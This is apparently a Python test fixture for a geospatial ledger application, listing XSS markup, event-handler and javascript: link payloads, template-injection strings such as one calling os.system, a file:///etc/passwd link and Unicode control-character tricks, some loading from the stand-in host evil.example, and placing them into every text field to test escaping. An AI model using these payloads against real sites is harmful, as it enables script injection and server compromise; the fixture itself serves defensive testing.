"""Hostile texts, and a ledger that holds each of them in every field that holds text.

Each text that could run does the same two things: a dialog, and a mark on the window. Texts
that could load something ask ``evil.example``.
"""

import datetime as dt
from collections.abc import Sequence
from dataclasses import replace

from geo.claims import Bound, Claim, Kind, Source, Standing
from geo.dates import Window
from geo.ledger import Ledger
from geo.places import Mission, Region, Site

_DO = "alert(1);window.pwned=1"
_FAR = "http://evil.example"
MARKUP = [
    f"<script>{_DO}</script>",
    f"<ScRiPt >{_DO}</sCrIpT >",
    f"</script><script>{_DO}</script>",
    f"</SCRIPT\t><script>{_DO}</script>",
    f"<!--<script>{_DO}//-->",
    f"--><script>{_DO}</script>",
    f"--!><img src=x onerror={_DO}>",
    f"<![CDATA[<script>{_DO}</script>]]>",
    f"</style><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</option></select><script>{_DO}</script>",
    f"</datalist><img src=x onerror={_DO}>",
    f"</noscript><img src=x onerror={_DO}>",
    f"</iframe><img src=x onerror={_DO}>",
    f"<script src={_FAR}/a.js></script>",
    f"<script>/*\"'`*/{_DO}</script>",
    f"<<script>{_DO}//<</script>",
]
HANDLERS = [
    f"<img src=x onerror={_DO}>",
    f'<img src="{_FAR}/b.png" onerror="{_DO}">',
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_DO}><text x=9 y=9>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={_DO}>#x></svg>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<body onload={_DO}>",
    f"<body onpageshow={_DO}>",
    f"<details open ontoggle={_DO}>x</details>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}></select>",
    f"<button onclick={_DO}>x</button>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<video src=x onerror={_DO}></video>",
    f"<audio src={_FAR}/a.mp3 onerror={_DO}></audio>",
    f"<video poster={_FAR}/p.png></video>",
    f"<p onmouseover={_DO} style=position:fixed;inset:0>x</p>",
    f"<math><mtext><img src=x onerror={_DO}></mtext></math>",
    f"<table background={_FAR}/t.png><td>x</table>",
    f"<a href=x onclick={_DO} autofocus onfocus={_DO}>x</a>",
    f"<style onload={_DO}></style>",
    f"<style>@import '{_FAR}/c.css';*{{background:url({_FAR}/d.png)}}</style>",
    f"<p style='background:url({_FAR}/e.png);animation:x 1s' onanimationstart={_DO}>x</p>",
]
LINKS = [
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java script:{_DO}",
    f"java&#10;script:{_DO}",
    f"javascript&colon;{_DO}",
    f"javascript://evil.example/%0a{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_DO}",
    f"blob:{_FAR}/x",
    "file:///etc/passwd",
    "//evil.example/x",
    f"{_FAR}/%22onclick=alert(1)%20x=%22",
    f'{_FAR}/"onclick="{_DO}',
    f"{_FAR}/'><script>{_DO}</script>",
    f"[x](javascript:{_DO})",
    f"![x]({_FAR}/f.png)",
    f"![x][1] [1]: {_FAR}/g.png",
    f"<{_FAR}/h>",
    f'<a href="javascript:{_DO}">x</a>',
    f"<iframe src=javascript:{_DO}></iframe>",
    f'<iframe srcdoc="<script>{_DO}</script>"></iframe>',
    f"<object data={_FAR}/i.swf></object>",
    f"<embed src={_FAR}/j.swf>",
    f"<form action=javascript:{_DO}><button autofocus>x</button></form>",
    f"<base href={_FAR}/>",
    f"<meta http-equiv=refresh content='0;url={_FAR}/'>",
    f"<link rel=stylesheet href={_FAR}/k.css>",
    f"<link rel=prefetch href={_FAR}/l>",
]
BREAKS = [
    f'";{_DO};//',
    f"';{_DO};//",
    f"`;{_DO};//",
    f"${{{_DO}}}",
    f'\\";{_DO};//',
    f"\\u0022;{_DO};//",
    f"]}});{_DO};({{[",
    f"\u2028{_DO}\u2029",
    f'" onmouseover="{_DO}" x="',
    f"' onfocus='{_DO}' autofocus x='",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{# x #}{% endraw %}",
    "{{ cycler.__init__.__globals__.os.system('touch /tmp/pwned') }}",
    "{day} {late} {n} {0} %s %(x)s $x $$x$$ {__class__}",
    "__proto__",
    "constructor",
    '=HYPERLINK("http://evil.example";"x")',
    ":material/home: :red[x] :streamlit: $\\href{javascript:alert(1)}{x}$",
    "url(javascript:alert(1))",
    "expression(alert(1))",
    "*/ } body { background: url(http://evil.example/m.png) } /*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "# heading\n- list\n\n```js\nalert(1)\n```",
]
LETTERS = [
    "\u202etxt.exe\u202c<script>alert(1)</script>",
    "\u2066\u202e<img src=x onerror=alert(1)>\u2069",
    "\u200f\u200e\u061cx",
    "a\x00<script>alert(1)</script>",
    "\x1b[31mred\x07\x08",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x onerror=alert(1)>" * 40,
    "W" * 3000,
    "word " * 800,
    "Z" + "\u0335\u0334\u0337" * 60,
    "قاعدة عين الأسد الجوية <img src=x onerror=alert(1)> عەین ئەسەد",
    "\U0001f3f4\u200d\u2620\ufe0f \U0001f469\u200d\U0001f680",
    "null",
    "undefined",
    "NaN",
]
TEXTS = [*MARKUP, *HANDLERS, *LINKS, *BREAKS, *LETTERS]
_DAY = dt.date(2025, 1, 10)
_CHUNK = 20


def ledger_of(texts: Sequence[str], urls: Sequence[str] | None = None) -> Ledger:
    """Make a ledger with a site, a source and two claims for each text.

    The texts of what there is only once (title, attribution) stand one after another; a
    few more sites hold twenty each, so that their panels can be looked through quickly. The
    claims on the first of them are those of all sources.
    """
    chunks = [" ".join(texts[at : at + _CHUNK]) for at in range(0, len(texts), _CHUNK)]
    named = [*((f"chunk-{n}", text) for n, text in enumerate(chunks)), *_numbered("site", texts)]
    sites = {key: _site(key, number, text) for number, (key, text) in enumerate(named)}
    regions = {f"region-{n}": _region(n, text) for n, text in enumerate(chunks)}
    sites = {
        key: _moved(site, f"region-{n % len(chunks)}")
        for n, (key, site) in enumerate(sites.items())
    }
    sources = {key: _source(key, text) for key, text in _numbered("source", texts)}
    for key, url in zip(sources, urls or (), strict=False):
        sources[key] = _linked(sources[key], url)
    claims: dict[str, Claim] = {}
    for n, text in enumerate(texts):
        places = ("chunk-0", f"site-{n}")
        claims[f"r{n}"] = _claim(f"r{n}", n, places, text, Kind.IN_USE)
        claims[f"p{n}"] = _claim(f"p{n}", n, places, text, Kind.LEAVE_BY)
    mission = Mission("mission", texts[0], dt.date(2024, 1, 1))
    whole = " ".join(texts)
    return Ledger(sites, regions, claims, sources, (mission,), whole, whole)


def _numbered(name: str, texts: Sequence[str]) -> list[tuple[str, str]]:
    return [(f"{name}-{n}", text) for n, text in enumerate(texts)]


def _region(number: int, text: str) -> Region:
    key, west = f"region-{number}", 40.0 + number
    ring = [[west, 30.0], [west + 1, 30.0], [west + 1, 36.0], [west, 36.0], [west, 30.0]]
    shape = {"type": "Polygon", "coordinates": [ring]}
    return Region(key, text, key, (), text, text, (text,), text, shape)


def _site(key: str, number: int, text: str) -> Site:
    across, down = number % 14, number // 14
    return Site(
        key, text, "", (), name_ar=text, name_ckb=text, aliases=(text,), lon=39.5 + across * 0.6,
        lat=None if number % 10 == 9 else 30.2 + down * 0.6, position_source=text,
        uncertainty_km=10.0, note=text,
    )  # fmt: skip


def _moved(site: Site, layer: str) -> Site:
    lon = None if site.lat is None else site.lon
    return replace(site, layer=layer, within=(layer,), lon=lon)


def _source(key: str, text: str) -> Source:
    window = Window(_DAY, _DAY)
    return Source(key, text, text, window, _DAY.isoformat(), text, "B", language=text, note=text)


def _linked(source: Source, url: str) -> Source:
    return replace(source, url=url)


def _claim(key: str, number: int, places: tuple[str, ...], text: str, kind: Kind) -> Claim:
    plan = kind is Kind.LEAVE_BY
    return Claim(
        key, places, kind, "2025-03-01" if plan else "2025-01-05", Bound.BY if plan else Bound.ON,
        "B", 2, f"source-{number}", Window(_DAY, _DAY), text,
        Standing.ANNOUNCED if plan else None, strength=text, locator=text, note=text,
    )  # fmt: skip
